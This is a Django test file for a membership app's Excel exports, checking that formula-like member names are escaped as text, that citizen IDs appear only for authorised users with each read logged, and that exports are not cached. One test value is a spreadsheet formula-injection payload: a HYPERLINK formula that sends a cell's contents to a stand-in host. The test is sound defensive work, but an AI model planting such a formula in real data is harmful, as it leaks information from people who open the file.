"""The member workbooks: no live formula from a member's name (issue 10, finding 12), citizen IDs
through the field rule with a read logged per revealed row, and no caching (finding 19)."""

from datetime import date
from io import BytesIO

from django.test import Client
from openpyxl import load_workbook

from chibo.audit.models import SensitiveRead
from chibo.members import actions
from chibo.members.models import EventKind

FORMULA_NAME = '=HYPERLINK("http://example.invalid/?d="&A1,"Bấm vào đây")'
CITIZEN_ID = "079090001234"


def _client(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _admit(personas, name, **profile):
    return actions.admit_member(
        actor=personas.hq_admin,
        unit=personas.tree.b1,
        full_name=name,
        gender="male",
        birth_date=date(1990, 4, 5),
        decision_on=date(2024, 3, 1),
        **profile,
    )


def _book(response):
    assert response.status_code == 200
    return load_workbook(BytesIO(response.content))


def test_a_formula_in_a_name_is_exported_as_text(personas):
    member = _admit(personas, FORMULA_NAME)
    assert member.full_name == FORMULA_NAME  # the action keeps the name as given
    response = _client(personas.hq_admin).get("/members/export.xlsx", {"unit": "B1"})
    sheet = _book(response).active
    names = [
        cell
        for row in sheet.iter_rows(min_row=3)
        for cell in row[1:2]
        if "HYPERLINK" in str(cell.value)
    ]
    assert len(names) == 1
    cell = names[0]
    assert cell.data_type == "s" and cell.value == "'" + FORMULA_NAME


def test_the_member_export_is_never_cached(personas):
    _admit(personas, "Nguyễn Văn Lâm")
    response = _client(personas.hq_admin).get("/members/export.xlsx")
    assert response.status_code == 200
    assert response["Cache-Control"] == "private, no-store"


def test_citizen_ids_in_the_export_are_revealed_by_the_field_rule_and_logged(personas):
    member = _admit(personas, "Nguyễn Văn Lâm", citizen_id=CITIZEN_ID)
    _admit(personas, "Trần Văn Minh")  # no citizen ID: nothing revealed, nothing logged
    SensitiveRead.objects.all().delete()
    response = _client(personas.hq_admin).get("/members/export.xlsx", {"unit": "B1"})
    rows = list(_book(response).active.iter_rows(values_only=True))
    header = rows[1]
    by_name = {row[1]: row for row in rows[2:]}
    assert by_name["Nguyễn Văn Lâm"][header.index("Số CCCD")] == CITIZEN_ID
    reads = list(SensitiveRead.objects.values_list("target_id", "reason"))
    assert reads == [(str(member.pk), "member export (citizen_id)")]


def test_a_branch_officer_exports_no_citizen_id_and_no_read_is_logged(personas):
    _admit(personas, "Nguyễn Văn Lâm", citizen_id=CITIZEN_ID)
    SensitiveRead.objects.all().delete()
    rows = list(
        _book(_client(personas.branch_officer).get("/members/export.xlsx")).active.iter_rows(
            values_only=True
        )
    )
    assert "Số CCCD" not in rows[1]
    assert all(CITIZEN_ID not in [str(c) for c in row] for row in rows)
    assert not SensitiveRead.objects.exists()


def test_the_changes_workbook_escapes_names_and_is_never_cached(personas):
    member = _admit(personas, FORMULA_NAME)
    actions.record_event(
        actor=personas.hq_admin,
        member=member,
        kind=EventKind.TRANSFER_OUT,
        effective_on=date(2024, 6, 3),
        to_unit=personas.tree.b2,
    )
    response = _client(personas.hq_admin).get(
        "/members/statistics/B1/changes.xlsx", {"start": "01/01/2024", "end": "31/12/2024"}
    )
    assert response["Cache-Control"] == "private, no-store"
    listing = _book(response)["Danh sách"]
    values = [c.value for row in listing.iter_rows(min_row=2) for c in row[1:2]]
    assert "'" + FORMULA_NAME in values
    assert FORMULA_NAME not in values
